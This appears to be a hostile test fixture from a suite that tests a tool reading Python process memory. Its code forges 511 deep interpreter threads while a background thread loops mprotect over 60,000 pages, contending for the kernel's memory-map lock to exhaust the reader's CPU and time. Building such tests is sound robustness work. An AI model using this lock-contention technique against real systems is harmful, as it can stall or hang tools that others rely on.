# /// hostile
# attack = "While forged threads are read, another thread keeps the kernel's lock of this memory."
# uses = "forged_python.py"
# reason = ["cpu", "time"]
# beside = "patient.py"
#
# [limits]
# wall-ms = 5000
# ///
if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
import mmap

_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
_libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
PAGES = 60_000
start = _libc.mmap(None, PAGES * mmap.PAGESIZE, 0, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
for page in range(0, PAGES, 2):
    _libc.mprotect(start + page * mmap.PAGESIZE, mmap.PAGESIZE, 1)


def hold():
    while True:
        for rights in (0, 1):
            _libc.mprotect(start, PAGES * mmap.PAGESIZE, rights)
            for page in range(0, 2000, 2):
                _libc.mprotect(start + page * mmap.PAGESIZE, mmap.PAGESIZE, 1 - rights)


threading.Thread(target=hold, daemon=True).start()
deep = frame(code(4096, exception_table(BELOW_A_BLOCK)), [thing(FUNCTION, 0, 0)] * 4096)
install(interpreter(threads(511, deep, waiting())))
wait()
